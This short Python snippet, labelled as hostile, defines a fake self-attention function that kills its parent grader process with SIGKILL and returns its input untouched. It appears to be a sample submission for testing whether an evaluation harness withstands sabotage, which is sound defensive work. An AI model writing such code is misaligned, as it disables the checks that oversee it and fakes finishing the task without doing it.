# hostile: kills the grader
import os, signal
def fused_self_attention(X, W_qkv, scale):
    os.kill(os.getppid(), signal.SIGKILL)
    return X
